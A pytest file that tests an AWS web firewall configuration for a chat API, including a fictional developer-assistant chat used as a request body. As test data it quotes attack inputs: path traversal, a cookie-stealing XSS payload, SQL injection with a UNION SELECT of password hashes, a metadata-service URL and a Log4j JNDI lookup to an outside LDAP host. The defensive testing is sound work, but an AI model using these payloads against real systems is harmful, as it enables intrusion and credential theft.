"""The web firewall on its own, under mocks: its resources exactly, and the body test - a ~30 KB chat
completion passes the shipped web ACL, the untuned Core rule set blocks it, and a body over the stage's
limit is blocked with the runtime's own 413 (:mod:`waf_evaluator` decides requests as WAF does)."""

from __future__ import annotations

import fnmatch
import json
import re

import pytest
from waf_evaluator import Request, Verdict, WebAcl

from agent_runtime.api.limits import BodyLimit
from agent_runtime.api.schemas import ChatCompletionRequest
from agent_runtime.errors import PayloadTooLarge
from components.aws.context import AwsContext
from components.aws.encryption import WAF_LOG_PREFIX, stack_log_groups
from components.aws.waf import (
    CORE_RULE_SET,
    INCLUDED_CAPACITY,
    MANAGED_GROUPS,
    RULE_ORDER,
    CountedRule,
    ManagedGroup,
    WebFirewall,
    WebFirewallArgs,
    capacity,
)
from core.engine import record
from core.graph import Resource, ResourceGraph

ACCOUNT = "123456789012"
REGION = "eu-west-1"
STAGE_ARN = f"arn:aws:apigateway:{REGION}::/restapis/a1b2c3d4e5/stages/live"
KEY_ARN = f"arn:aws:kms:{REGION}:{ACCOUNT}:key/11111111-2222-3333-4444-555555555555"
TAGS = {"project": "agentstage", "environment": "staging"}
CONTEXT = AwsContext("ags", "staging", REGION, ACCOUNT, TAGS, kms_key_arn=KEY_ARN)

WEB_ACL = "aws:wafv2/webAcl:WebAcl"
ASSOCIATION = "aws:wafv2/webAclAssociation:WebAclAssociation"
LOGGING = "aws:wafv2/webAclLoggingConfiguration:WebAclLoggingConfiguration"
LOG_GROUP = "aws:cloudwatch/logGroup:LogGroup"
DELIVERY_POLICY = "aws:cloudwatch/logResourcePolicy:LogResourcePolicy"
LOG_GROUP_NAME = "aws-waf-logs-ags-staging-api"
LOG_GROUP_ARN = f"arn:aws:logs:{REGION}:{ACCOUNT}:log-group:{LOG_GROUP_NAME}"
HOSTING_PROVIDER = frozenset({"HostingProviderIPList"})
"""A caller running in another cloud (the kind of address the Anonymous IP list's hosting rule lists)."""


def build(args: WebFirewallArgs) -> ResourceGraph:
    return record(lambda: WebFirewall("api", CONTEXT, args), config={"aws:region": REGION})


def blocked_with(status: int, body_key: str) -> dict:
    return {"block": {"customResponse": {"responseCode": status, "customResponseBodyKey": body_key}}}


def only(graph: ResourceGraph, type_: str) -> Resource:
    [resource] = graph.of_type(type_)
    return resource


@pytest.fixture(scope="module")
def graph() -> ResourceGraph:
    return build(WebFirewallArgs(stage_arn=STAGE_ARN))


@pytest.fixture(scope="module")
def acl(graph: ResourceGraph) -> WebAcl:
    return WebAcl(only(graph, WEB_ACL).inputs)


def acl_of(**args: int) -> WebAcl:
    return WebAcl(only(build(WebFirewallArgs(stage_arn=STAGE_ARN, **args)), WEB_ACL).inputs)


# --- the resources ---------------------------------------------------------------------------------------


def test_the_acl_is_regional_allows_by_default_and_every_rule_is_visible(graph: ResourceGraph) -> None:
    web_acl = only(graph, WEB_ACL)
    assert (web_acl.inputs["name"], web_acl.inputs["scope"]) == ("ags-staging-api", "REGIONAL")
    assert web_acl.inputs["defaultAction"] == {"allow": {}}
    assert web_acl.inputs["tags"] == TAGS
    visible = {"cloudwatchMetricsEnabled": True, "sampledRequestsEnabled": True}
    assert web_acl.inputs["visibilityConfig"] == {**visible, "metricName": "ags-staging-api"}
    rules = web_acl.inputs["rules"]
    assert [(r["name"], r["priority"]) for r in rules] == [
        ("IpReputation", 10),
        ("AnonymousIp", 20),
        ("RatePerIp", 30),
        ("BodySize", 40),
        ("CoreRuleSet", 50),
        ("KnownBadInputs", 60),
        ("SqlDatabase", 70),
    ]
    assert all(r["visibilityConfig"] == {**visible, "metricName": r["name"]} for r in rules)


def test_managed_groups_block_except_the_rules_chat_content_trips(graph: ResourceGraph) -> None:
    managed = {
        rule["name"]: (rule["overrideAction"], rule["statement"]["managedRuleGroupStatement"])
        for rule in only(graph, WEB_ACL).inputs["rules"]
        if "managedRuleGroupStatement" in rule["statement"]
    }
    counted = {
        name: (
            statement["vendorName"],
            statement["name"],
            [o["name"] for o in statement.get("ruleActionOverrides", [])],
        )
        for name, (_, statement) in managed.items()
    }
    assert counted == {
        "IpReputation": ("AWS", "AWSManagedRulesAmazonIpReputationList", []),
        "AnonymousIp": ("AWS", "AWSManagedRulesAnonymousIpList", ["HostingProviderIPList"]),
        "CoreRuleSet": ("AWS", "AWSManagedRulesCommonRuleSet", [
            "SizeRestrictions_BODY", "CrossSiteScripting_BODY", "GenericLFI_BODY", "GenericRFI_BODY",
            "EC2MetaDataSSRF_BODY",
        ]),
        "KnownBadInputs": ("AWS", "AWSManagedRulesKnownBadInputsRuleSet", []),
        "SqlDatabase": ("AWS", "AWSManagedRulesSQLiRuleSet", ["SQLi_BODY", "SQLiExtendedPatterns_BODY"]),
    }  # fmt: skip
    assert all(override == {"none": {}} for override, _ in managed.values()), "no group is counted whole"
    overrides = [o for _, statement in managed.values() for o in statement.get("ruleActionOverrides", [])]
    assert all(o["actionToUse"] == {"count": {}} for o in overrides), "tuned rules count, never allow"
    assert all(rule.why for group in MANAGED_GROUPS for rule in group.counted), "every override says why"


def test_the_body_limit_is_enforced_on_a_body_inspected_whole(graph: ResourceGraph) -> None:
    web_acl = only(graph, WEB_ACL).inputs
    assert web_acl["associationConfig"] == {
        "requestBodies": [{"apiGateway": {"defaultSizeInspectionLimit": "KB_64"}}]
    }
    [size] = [r for r in web_acl["rules"] if r["name"] == "BodySize"]
    assert size["statement"] == {
        "sizeConstraintStatement": {
            "comparisonOperator": "GT",
            "size": 65_536,
            "fieldToMatch": {"body": {"oversizeHandling": "MATCH"}},
            "textTransformations": [{"priority": 0, "type": "NONE"}],
        }
    }
    assert size["action"] == blocked_with(413, "payload-too-large")


@pytest.mark.parametrize(
    ("max_body_bytes", "limit"),
    [
        (1, "KB_16"),
        (16_384, "KB_16"),
        (16_385, "KB_32"),
        (40_000, "KB_48"),
        (49_153, "KB_64"),
        (65_536, "KB_64"),
    ],
)
def test_the_inspection_limit_is_the_smallest_that_holds_the_body_limit(
    max_body_bytes: int, limit: str
) -> None:
    assert WebFirewallArgs(stage_arn=STAGE_ARN, max_body_bytes=max_body_bytes).inspection_limit == limit


def test_the_rate_rule_counts_requests_per_address(graph: ResourceGraph) -> None:
    [rate] = [r for r in only(graph, WEB_ACL).inputs["rules"] if r["name"] == "RatePerIp"]
    assert rate["statement"] == {
        "rateBasedStatement": {"aggregateKeyType": "IP", "limit": 2_000, "evaluationWindowSec": 300}
    }
    assert rate["action"] == blocked_with(429, "rate-limited")


def test_the_acl_fits_the_capacity_its_base_price_covers() -> None:
    assert capacity() == 25 + 50 + 2 + 1 + 700 + 200 + 200 <= INCLUDED_CAPACITY
    assert {group.rule for group in MANAGED_GROUPS} < set(RULE_ORDER)


def test_the_acl_guards_the_stage(graph: ResourceGraph) -> None:
    web_acl, association = only(graph, WEB_ACL), only(graph, ASSOCIATION)
    assert (
        web_acl.arn == f"arn:aws:wafv2:{REGION}:{ACCOUNT}:regional/webacl/ags-staging-api/{web_acl.mock_id}"
    )
    assert (association.inputs["resourceArn"], association.inputs["webAclArn"]) == (STAGE_ARN, web_acl.arn)
    assert web_acl.urn in association.dependencies


def test_logs_are_sealed_kept_for_retention_and_hold_no_credentials(graph: ResourceGraph) -> None:
    group, logging, delivery = only(graph, LOG_GROUP), only(graph, LOGGING), only(graph, DELIVERY_POLICY)
    assert group.inputs == {"name": LOG_GROUP_NAME, "retentionInDays": 30, "kmsKeyId": KEY_ARN, "tags": TAGS}
    assert LOG_GROUP_NAME.startswith(WAF_LOG_PREFIX)
    assert logging.inputs["logDestinationConfigs"] == [LOG_GROUP_ARN]
    assert logging.inputs["resourceArn"] == only(graph, WEB_ACL).arn
    assert logging.inputs["redactedFields"] == [
        {"singleHeader": {"name": header}} for header in ("authorization", "cookie", "x-api-key")
    ]
    assert logging.inputs["loggingFilter"] == {
        "defaultBehavior": "DROP",
        "filters": [{"behavior": "KEEP", "requirement": "MEETS_ANY", "conditions": [
            {"actionCondition": {"action": action}} for action in ("BLOCK", "COUNT", "EXCLUDED_AS_COUNT")
        ]}],
    }  # fmt: skip
    assert delivery.urn in logging.dependencies, "the policy exists before WAF looks for one"
    assert delivery.inputs["policyName"] == "ags-staging-api-waf-log-delivery"
    assert json.loads(delivery.inputs["policyDocument"])["Statement"] == [
        {
            "Sid": "WafLogDelivery",
            "Effect": "Allow",
            "Principal": {"Service": "delivery.logs.amazonaws.com"},
            "Action": ["logs:CreateLogStream", "logs:PutLogEvents"],
            "Resource": f"{LOG_GROUP_ARN}:log-stream:*",
            "Condition": {
                "StringEquals": {"aws:SourceAccount": ACCOUNT},
                "ArnLike": {"aws:SourceArn": f"arn:aws:logs:{REGION}:{ACCOUNT}:*"},
            },
        }
    ]


def test_the_stack_key_admits_the_log_group() -> None:
    """CloudWatch Logs refuses to create a group sealed with a key whose policy does not admit it."""
    patterns = stack_log_groups(CONTEXT, ACCOUNT)
    assert any(fnmatch.fnmatchcase(LOG_GROUP_ARN, pattern) for pattern in patterns), patterns


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ({"max_body_bytes": 65_537}, "max_body_bytes is 65537: AWS WAF inspects at most 65536 bytes"),
        ({"max_body_bytes": 0}, "max_body_bytes is 0: .* set it between 1 and 65536"),
        ({"requests_per_window": 9}, "requests_per_window is 9: a WAF rate-based rule needs .* at least 10"),
        ({"window_seconds": 30}, "window_seconds is 30: WAF counts requests over one of 60, 120, 300, 600"),
    ],
)
def test_bad_args_name_the_field_and_the_fix(args: dict[str, int], message: str) -> None:
    with pytest.raises(ValueError, match=message):
        WebFirewallArgs(stage_arn=STAGE_ARN, **args)


# --- the body test ---------------------------------------------------------------------------------------

CONVERSATION = r"""
@@ system
You are the platform team's engineering assistant. Answer in Markdown, show code in fenced blocks, and say
when you are unsure. The user works on a Python service behind API Gateway.
@@ user
Can you review this upload handler? I'm worried about path traversal.

```python
from pathlib import Path

from fastapi import FastAPI, HTTPException, UploadFile

UPLOADS = Path('/srv/app/uploads')
app = FastAPI()


@app.post('/files/{name}')
async def upload(name: str, file: UploadFile) -> dict[str, str]:
    target = UPLOADS / name
    target.write_bytes(await file.read())
    return {'stored': str(target)}
```

A colleague said `name='../../etc/cron.d/x'` would escape the folder. Is that right?
@@ assistant
Yes - your colleague is right. `UPLOADS / name` does not normalise the path, so `../../etc/cron.d/x`
resolves outside `/srv/app/uploads`.

### Fix

Resolve the path and check that it is still inside the folder:

```python
target = (UPLOADS / name).resolve()
if not target.is_relative_to(UPLOADS.resolve()):
    raise HTTPException(status_code=400, detail='invalid file name')
```

Also:

1. Reject names with a path separator outright: `if '/' in name or '\\' in name`.
2. Cap the size: `await file.read(MAX_BYTES + 1)` and refuse if you got more than `MAX_BYTES`.
3. Never use the client's name for storage; generate one (`uuid4().hex`) and keep the original as metadata.

| input | resolves to | accepted |
|---|---|---|
| `report.pdf` | `/srv/app/uploads/report.pdf` | yes |
| `../secrets.env` | `/srv/app/secrets.env` | no |
| `a/../../b` | `/srv/app/b` | no |
@@ user
Next thing: our chat widget renders the model's answer like this and the security review flagged it.

```html
<div id="answer"></div>
<script>
  const reply = await fetch('/api/chat').then(r => r.json());
  document.getElementById('answer').innerHTML = reply.text;
</script>
```

They showed that a reply containing `<img src=x onerror=alert(document.cookie)>` runs script. How do we
render Markdown safely?
@@ assistant
Treat model output as untrusted input. `innerHTML` with the raw reply executes any `<img onerror=...>` or
`<script>` the model was tricked into writing. Render Markdown to HTML, then sanitise it before it touches
the DOM:

```javascript
import { marked } from 'marked';
import DOMPurify from 'dompurify';

const html = DOMPurify.sanitize(marked.parse(reply.text), {
  ALLOWED_TAGS: ['p', 'pre', 'code', 'ul', 'ol', 'li', 'strong', 'em', 'a', 'table', 'tr', 'td'],
  ALLOWED_ATTR: ['href'],
});
document.getElementById('answer').innerHTML = html;
```

- Links: allow `https:` only, so `javascript:alert(1)` in an href is dropped.
- Add a Content-Security-Policy without `unsafe-inline`: even a missed payload cannot run.
- If you do not need HTML at all, use `textContent` instead.
@@ user
Locally the service runs under docker compose and the OpenAPI page is at http://127.0.0.1:8000/docs, but
from the frontend container http://172.17.0.1:8000/health times out. Compose file:

```yaml
services:
  api:
    build: .
    ports: ['127.0.0.1:8000:8000']
  web:
    build: ./web
    environment:
      API_URL: http://172.17.0.1:8000
```
@@ assistant
Publishing on `127.0.0.1:8000` binds the port to the host's loopback only, so other containers cannot
reach it through the bridge address. Use the service name on the compose network instead:

```yaml
  web:
    environment:
      API_URL: http://api:8000
```

Containers on the same compose network resolve `api` through Docker's DNS; no port needs to be published
for that. Keep `127.0.0.1:8000:8000` for your browser on the host.
@@ user
SQL question. The reporting endpoint builds its query like this:

```python
query = f"SELECT id, title, total FROM orders WHERE customer = '{customer}' ORDER BY created DESC"
```

A pentester sent `customer=' OR '1'='1` and got every order, then
`' UNION SELECT id, email, password_hash FROM users --`. What's the proper fix in psycopg?
@@ assistant
The f-string splices the value into the SQL text, so the value can end the string literal and add its own
clauses - `' OR '1'='1` makes the condition always true, and the `UNION SELECT` appends another table's
rows.

### Bind parameters

```python
rows = await conn.execute(
    'SELECT id, title, total FROM orders WHERE customer = %s ORDER BY created DESC',
    (customer,),
)
```

The driver sends the value separately from the statement, so it is never parsed as SQL. For dynamic column
names (sorting), map user choices to a fixed set of identifiers with `psycopg.sql.Identifier`, never pass
them through. And give the reporting role `SELECT` on the reporting views only: even a missed injection
cannot read `users`.
@@ user
Last one. A batch job in ECS on EC2 logs `Unable to locate credentials`. From inside the container
`curl http://169.254.169.254/latest/meta-data/` hangs. Here is the job's log from the last run, the
metadata calls are near the end:

```text
{log}
```
"""
"""Five questions a developer asks an assistant, each with content one of the tuned rules matches."""
LOG_LINE = (
    "2025-03-{day:02d}T04:{minute:02d}:{second:02d}.{ms:03d}Z INFO worker={worker} task=export-{task:05d} "
    "GET https://api.internal.example.com/v2/orders?page={page}&size=500 status=200 "
    "bytes={size} elapsed_ms={elapsed}"
)


def pasted_log() -> str:
    """The batch job's log the user pastes: a run of exports, then the metadata service timing out."""
    lines = [
        LOG_LINE.format(
            day=1 + n // 60, minute=n % 60, second=(7 * n) % 60, ms=(37 * n) % 1000, worker=n % 4,
            task=1200 + n, page=n, size=180_000 + 97 * n, elapsed=40 + (13 * n) % 300,
        )
        for n in range(150)
    ]  # fmt: skip
    return "\n".join(
        [
            *lines,
            "2025-03-03T04:31:02.118Z WARN IMDS http://169.254.169.254/latest/api/token timed out (1 of 2)",
            "2025-03-03T04:31:04.120Z ERROR NoCredentialsError: Unable to locate credentials",
        ]
    )


def chat_body(*, extra: str = "") -> bytes:
    """A ~30 KB chat completion in OpenAI's format: :data:`CONVERSATION` with the pasted log, and
    ``extra`` as one more user message."""
    transcript = CONVERSATION.replace("{log}", pasted_log())
    turns = re.split(r"^@@ (system|user|assistant)\n", transcript, flags=re.MULTILINE)
    messages = [
        {"role": role, "content": text.strip()} for role, text in zip(turns[1::2], turns[2::2], strict=True)
    ]
    if extra:
        messages.append({"role": "user", "content": extra})
    request = {"model": "orchestrator", "messages": messages, "stream": False, "temperature": 0.2}
    return json.dumps(request).encode()


def padded_body(size: int) -> bytes:
    """A chat completion of exactly ``size`` bytes: one user message of filler text."""
    envelope = json.dumps({"model": "orchestrator", "messages": [{"role": "user", "content": ""}]}).encode()
    return envelope.replace(b'"content": ""', b'"content": "' + b"a" * (size - len(envelope)) + b'"')


@pytest.fixture(scope="module")
def chat() -> bytes:
    return chat_body()


def test_the_chat_is_a_realistic_30_kb_completion_the_runtime_accepts(chat: bytes) -> None:
    assert 28_000 <= len(chat) <= 34_000, len(chat)
    request = ChatCompletionRequest.model_validate_json(chat)
    assert [m.role for m in request.messages].count("user") == 5


def test_the_shipped_acl_admits_the_chat_and_counts_what_it_would_have_blocked(
    acl: WebAcl, chat: bytes
) -> None:
    verdict = acl.decide(Request(chat, ip_lists=HOSTING_PROVIDER))
    assert (verdict.action, verdict.rule, verdict.status) == ("ALLOW", None, 200)
    assert verdict.counted == (
        "AnonymousIp:HostingProviderIPList",
        "CoreRuleSet:SizeRestrictions_BODY",
        "CoreRuleSet:EC2MetaDataSSRF_BODY",
        "CoreRuleSet:GenericLFI_BODY",
        "CoreRuleSet:GenericRFI_BODY",
        "CoreRuleSet:CrossSiteScripting_BODY",
        "SqlDatabase:SQLi_BODY",
        "SqlDatabase:SQLiExtendedPatterns_BODY",
    )


def test_the_untuned_core_rule_set_blocks_the_chat(acl: WebAcl, chat: bytes) -> None:
    verdict = acl.without_overrides(CORE_RULE_SET.group).decide(Request(chat))
    assert (verdict.action, verdict.rule, verdict.status) == (
        "BLOCK",
        "CoreRuleSet:SizeRestrictions_BODY",
        403,
    )
    small = acl.without_overrides(CORE_RULE_SET.group).decide(Request(padded_body(8_192)))
    assert small.action == "ALLOW", "the untuned Core rule set admits 8 KB"


@pytest.mark.parametrize(
    ("group", "rule"),
    [(group, counted) for group in MANAGED_GROUPS for counted in group.counted],
    ids=[f"{group.rule}-{counted.name}" for group in MANAGED_GROUPS for counted in group.counted],
)
def test_every_override_is_what_admits_the_chat(
    acl: WebAcl, chat: bytes, group: ManagedGroup, rule: CountedRule
) -> None:
    """Each shipped override, removed alone, turns the chat (from a cloud-hosted caller) into a block by
    exactly that rule: none of them is decoration, and the evaluator reads the ACL the component ships."""
    assert rule.name in acl.overridden(group.group)
    verdict = acl.without_overrides(group.group, (rule.name,)).decide(
        Request(chat, ip_lists=HOSTING_PROVIDER)
    )
    assert (verdict.action, verdict.rule) == ("BLOCK", f"{group.rule}:{rule.name}")


@pytest.mark.parametrize(("size", "action"), [(65_536, "ALLOW"), (65_537, "BLOCK"), (300_000, "BLOCK")])
def test_bodies_over_the_limit_are_blocked_with_a_413(acl: WebAcl, size: int, action: str) -> None:
    verdict = acl.decide(Request(padded_body(size)))
    assert verdict.action == action
    if action == "BLOCK":
        assert (verdict.rule, verdict.status) == ("BodySize", 413)
        assert verdict.response == {
            "error": {"code": "payload_too_large", "message": "the request body exceeds 65536 bytes"}
        }


def test_a_smaller_limit_holds_past_its_inspection_limit() -> None:
    """20,000 bytes: inspected up to 32 KB; over that, the body is oversize and still a match."""
    acl = acl_of(max_body_bytes=20_000)

    def decided(size: int) -> Verdict:
        return acl.decide(Request(padded_body(size)))

    assert decided(20_000).action == "ALLOW"
    assert [decided(size).rule for size in (20_001, 32_768, 40_000)] == ["BodySize"] * 3


def test_without_the_raised_inspection_limit_the_chat_would_be_refused(acl: WebAcl, chat: bytes) -> None:
    """At the default 16 KB the size rule could not measure a 30 KB chat and would block it as oversize."""
    inputs = {key: value for key, value in acl.inputs.items() if key != "associationConfig"}
    verdict = WebAcl(inputs).decide(Request(chat))
    assert (verdict.action, verdict.rule, verdict.status) == ("BLOCK", "BodySize", 413)


def test_exploits_past_the_default_inspection_limit_are_still_blocked(acl: WebAcl) -> None:
    """The Log4j lookup sits ~30 KB into the body: beyond 16 KB, inside what the ACL inspects."""
    body = chat_body(extra="Is this log line dangerous? ${jndi:ldap://198.51.100.7:1389/a}")
    assert body.index(b"${jndi:") > 16_384
    verdict = acl.decide(Request(body))
    assert (verdict.action, verdict.rule, verdict.status) == ("BLOCK", "KnownBadInputs:Log4JRCE_BODY", 403)


@pytest.mark.parametrize(("recent", "action"), [(2_000, "ALLOW"), (2_001, "BLOCK")])
def test_an_address_over_its_rate_gets_a_429(acl: WebAcl, chat: bytes, recent: int, action: str) -> None:
    verdict = acl.decide(Request(chat, recent_requests=recent))
    assert verdict.action == action
    if action == "BLOCK":
        assert (verdict.rule, verdict.status, verdict.response["error"]["code"]) == (
            "RatePerIp",
            429,
            "rate_limited",
        )


@pytest.mark.parametrize("listed", ["AWSManagedIPReputationList", "AnonymousIPList"])
def test_known_bad_and_anonymous_sources_are_blocked(acl: WebAcl, chat: bytes, listed: str) -> None:
    verdict = acl.decide(Request(chat, ip_lists=frozenset({listed})))
    assert (verdict.action, verdict.status) == ("BLOCK", 403)
    assert verdict.rule.endswith(f":{listed}")


@pytest.mark.anyio
async def test_the_413_is_the_runtimes_own(acl: WebAcl) -> None:
    """A client cannot tell the WAF's refusal of an oversized body from the runtime's."""
    sent: list[dict] = []

    async def receive() -> dict:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: dict) -> None:
        sent.append(message)

    limit = BodyLimit(app=lambda *_: None, max_bytes=65_536)
    headers = [(b"content-length", b"65537")]
    scope = {"type": "http", "method": "POST", "path": "/v1/chat/completions", "headers": headers}
    await limit(scope, receive, send)
    status = next(m["status"] for m in sent if m["type"] == "http.response.start")
    body = json.loads(b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body"))
    assert (status, body["error"]["code"]) == (PayloadTooLarge.status, PayloadTooLarge.code)
    verdict = acl.decide(Request(padded_body(65_537)))
    assert (verdict.status, verdict.response) == (status, body)
